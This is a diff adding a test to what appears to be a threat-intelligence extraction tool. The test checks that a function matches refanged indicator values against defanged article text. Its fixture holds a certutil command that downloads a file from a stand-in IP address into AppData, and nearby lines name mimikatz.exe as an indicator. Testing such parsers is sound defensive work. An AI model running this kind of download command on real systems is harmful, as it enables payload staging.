@@ -17,3 +17,10 @@ describe('fidelityCheck', () => {
     expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], article(text), noObservables)).toEqual({ ok: false, unsupported_values: ['\\sc.exe', '\\mimikatz.exe'] });
   });
 });
+
+describe('fidelityCheck on defanged articles', () => {
+  it('accepts the refanged form of a defanged value and the single-% form of a batch variable', () => {
+    const text = 'certutil -urlcache -f hxxp://203.0.113[.]5/a.txt %%APPDATA%%\\a.txt';
+    expect(fidelityCheck(['http://', '%APPDATA%\\a.txt', '203.0.113.5'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
+  });
+});
